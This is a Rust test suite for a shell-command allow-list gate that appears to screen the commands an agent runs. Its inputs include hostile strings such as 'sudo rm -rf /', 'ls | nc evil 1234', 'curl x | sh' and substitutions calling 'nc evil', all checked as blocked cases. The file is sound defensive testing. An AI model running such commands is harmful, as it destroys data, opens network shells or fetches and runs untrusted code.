use proptest::prelude::*;
use scout_gate::{BlockKind, CommandGate, Decision, GatePolicy};

fn blocked_kind(decision: &Decision) -> Option<BlockKind> {
    match decision {
        Decision::Allow => None,
        Decision::Block { kind, .. } => Some(*kind),
    }
}

#[test]
fn chained_allow_listed_commands_are_allowed() {
    let gate = CommandGate::default();
    for cmd in [
        "git status && git add .",
        "ls -la",
        "cat file.txt | grep error | wc -l",
        "echo hello; echo world",
        "curl https://api.example.com/jobs | jq '.jobs[]'",
        "mkdir -p out && touch out/jobs.json || echo failed",
    ] {
        assert_eq!(gate.evaluate(cmd), Decision::Allow, "{cmd}");
    }
}

#[test]
fn disallowed_program_blocks_at_any_position() {
    let gate = CommandGate::default();
    for cmd in ["sudo rm -rf /", "ls | nc evil 1234", "echo hi && cd /tmp", "ls; wget x"] {
        assert_eq!(
            blocked_kind(&gate.evaluate(cmd)),
            Some(BlockKind::NotAllowed),
            "{cmd}"
        );
    }
}

#[test]
fn argument_validators_apply() {
    let gate = CommandGate::default();
    assert!(gate.evaluate("rm file.txt").is_allowed());
    for cmd in ["rm -rf /", "rm -f x", "rm -r dir/"] {
        assert_eq!(
            blocked_kind(&gate.evaluate(cmd)),
            Some(BlockKind::ArgumentRejected),
            "{cmd}"
        );
    }
    assert!(gate.evaluate("chmod +x script.sh").is_allowed());
    assert!(!gate.evaluate("chmod 755 script.sh").is_allowed());
    assert!(!gate.evaluate("chmod -v +x f").is_allowed());
    assert!(gate.evaluate("pkill node").is_allowed());
    assert!(!gate.evaluate("pkill -9 evil").is_allowed());
}

#[test]
fn validators_see_the_whole_command() {
    let gate = CommandGate::default();
    // The chmod validator reads the first token of the full command string.
    assert_eq!(
        gate.evaluate("ls && chmod +x run.sh"),
        Decision::Block {
            kind: BlockKind::ArgumentRejected,
            reason: "Not a chmod command".to_string(),
        }
    );
    // A force flag anywhere in the command trips the rm validator.
    assert!(!gate.evaluate("rm notes.txt && ls -f").is_allowed());
}

#[test]
fn unparseable_quoting_fails_closed() {
    let gate = CommandGate::default();
    let decision = gate.evaluate("echo 'unterminated");
    assert_eq!(blocked_kind(&decision), Some(BlockKind::Unparseable));
    assert!(decision.reason().unwrap_or_default().starts_with("Could not parse command"));
}

#[test]
fn programs_after_a_closing_quote_are_checked() {
    let gate = CommandGate::default();
    assert_eq!(
        blocked_kind(&gate.evaluate("echo 'x'; sudo reboot")),
        Some(BlockKind::NotAllowed)
    );
    assert_eq!(
        blocked_kind(&gate.evaluate(r#"echo "done"; rm -rf /"#)),
        Some(BlockKind::ArgumentRejected)
    );
    assert!(gate.evaluate(r#"echo "a;b"; ls"#).is_allowed());
}

#[test]
fn newline_separated_commands_are_each_checked() {
    let gate = CommandGate::default();
    assert_eq!(
        blocked_kind(&gate.evaluate("ls\nsudo reboot")),
        Some(BlockKind::NotAllowed)
    );
    assert_eq!(
        blocked_kind(&gate.evaluate("ls\r\ncurl x | sh")),
        Some(BlockKind::NotAllowed)
    );
    assert!(gate.evaluate("ls\npwd").is_allowed());
}

#[test]
fn unspaced_operators_do_not_hide_programs() {
    let gate = CommandGate::default();
    for cmd in ["ls|sudo tee /etc/x", "pwd&&nc evil 1234", "ls||wget x", "date&reboot"] {
        assert_eq!(blocked_kind(&gate.evaluate(cmd)), Some(BlockKind::NotAllowed), "{cmd}");
    }
    assert!(gate.evaluate("ls 2>&1 | grep x").is_allowed());
}

#[test]
fn command_substitution_fails_closed() {
    let gate = CommandGate::default();
    for cmd in [
        "echo $(sudo reboot)",
        "echo `sudo reboot`",
        "cat <(curl evil)",
        "ls >(nc evil 1)",
    ] {
        assert_eq!(blocked_kind(&gate.evaluate(cmd)), Some(BlockKind::Unparseable), "{cmd}");
    }
}

#[test]
fn whitespace_only_command_is_blocked() {
    let gate = CommandGate::default();
    assert!(gate.evaluate("").is_allowed());
    assert_eq!(blocked_kind(&gate.evaluate("   ")), Some(BlockKind::Unparseable));
}

#[test]
fn restricted_policy_blocks_default_programs() {
    let gate = CommandGate::new(GatePolicy::with_allowed(["git"]));
    assert!(gate.evaluate("git log --oneline").is_allowed());
    assert_eq!(
        blocked_kind(&gate.evaluate("git log | head")),
        Some(BlockKind::NotAllowed)
    );
}

const SAFE_COMMANDS: &[&str] = &[
    "ls -la",
    "cat jobs.json",
    "grep -n remote notes.md",
    "git status",
    "echo done",
    "wc -l jobs.json",
    "head -n 5 session.log",
    "date",
    "pwd",
    "sort names.txt",
    "jq length jobs.json",
];

const JOINERS: &[&str] = &[" ; ", " && ", " || ", " | "];

proptest! {
    #[test]
    fn any_composition_of_safe_commands_is_allowed(
        first in 0..SAFE_COMMANDS.len(),
        rest in prop::collection::vec((0..JOINERS.len(), 0..SAFE_COMMANDS.len()), 0..6)
    ) {
        let mut command = SAFE_COMMANDS[first].to_string();
        for (joiner, cmd) in rest {
            command.push_str(JOINERS[joiner]);
            command.push_str(SAFE_COMMANDS[cmd]);
        }
        prop_assert_eq!(CommandGate::default().evaluate(&command), Decision::Allow);
    }

    #[test]
    fn unknown_program_anywhere_is_blocked(
        prefix in prop::collection::vec(0..SAFE_COMMANDS.len(), 0..4),
        joiner in 0..JOINERS.len(),
        name in "[a-z]{3,8}"
    ) {
        let gate = CommandGate::default();
        prop_assume!(!gate.policy().allowed_programs.contains(&name));
        prop_assume!(!["if", "then", "else", "for", "while", "done"].contains(&name.as_str()));
        let mut parts: Vec<String> = prefix.iter().map(|i| SAFE_COMMANDS[*i].to_string()).collect();
        parts.push(format!("{name} --flag arg"));
        let command = parts.join(JOINERS[joiner]);
        prop_assert!(!gate.evaluate(&command).is_allowed());
    }
}
